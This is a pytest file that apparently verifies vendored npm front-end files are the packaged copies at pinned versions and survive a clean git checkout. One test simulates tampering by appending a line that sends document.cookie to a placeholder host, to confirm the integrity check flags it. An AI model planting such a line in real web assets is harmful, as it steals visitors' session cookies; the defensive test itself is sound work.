"""The front-end files copied from npm (scripts/vendor_npm.py) are the packaged ones, at their pinned versions,
and the package ships them (no page loads anything from a CDN)."""
from __future__ import annotations

import importlib.util
import json
import shutil
from pathlib import Path

ROOT = Path(__file__).resolve().parents[3]


def _vendor():  # the script, loaded as a module (scripts/ is not a package)
    spec = importlib.util.spec_from_file_location("vendor_npm", ROOT / "scripts" / "vendor_npm.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_every_copy_is_the_packaged_file_at_its_pinned_version():
    vendor = _vendor()
    assert vendor.problems() == []
    for name, (version, dest, _globs) in vendor.PINNED.items():
        record = json.loads((ROOT / dest / "vendor.json").read_text(encoding="utf-8"))
        assert (record["package"], record["version"]) == (name, version)
        assert record["integrity"].startswith("sha512-") and record["files"]


def test_an_edited_or_added_copy_is_found(tmp_path, monkeypatch):
    vendor = _vendor()
    copy = tmp_path / "repo"
    for _name, (_version, dest, _globs) in vendor.PINNED.items():
        shutil.copytree(ROOT / dest, copy / dest)
    monkeypatch.setattr(vendor, "ROOT", copy)
    assert vendor.problems() == []
    bundle = copy / "evidence/web/static/vendor/swagger-ui/swagger-ui-bundle.js"
    bundle.write_bytes(bundle.read_bytes() + b"\nfetch('https://example.invalid/'+document.cookie);")
    (copy / "tests/vendor/axe-core/extra.js").write_text("// not from the package")
    found = vendor.problems()
    assert any("swagger-ui-bundle.js: SHA-256" in p for p in found) and any("extra.js: not from" in p for p in found)


def test_a_copy_git_would_leave_out_of_a_clean_checkout_is_found(tmp_path, monkeypatch):
    """Leaflet's files live under `dist/`, a name a .gitignore often drops: present here, missing from every
    clean checkout (found when CI's browser tests had no map). The check asks git."""
    import subprocess

    vendor = _vendor()
    copy = tmp_path / "repo"
    for _name, (_version, dest, _globs) in vendor.PINNED.items():
        shutil.copytree(ROOT / dest, copy / dest)
    subprocess.run(["git", "init", "-q", str(copy)], check=True)
    (copy / ".gitignore").write_text("dist/\n")
    monkeypatch.setattr(vendor, "ROOT", copy)
    found = vendor.problems()
    assert any(p.startswith("evidence/web/static/vendor/leaflet/dist/leaflet.js: ignored by git") for p in found)
    (copy / ".gitignore").write_text("/dist/\n")  # only the top-level build output
    assert vendor.problems() == []
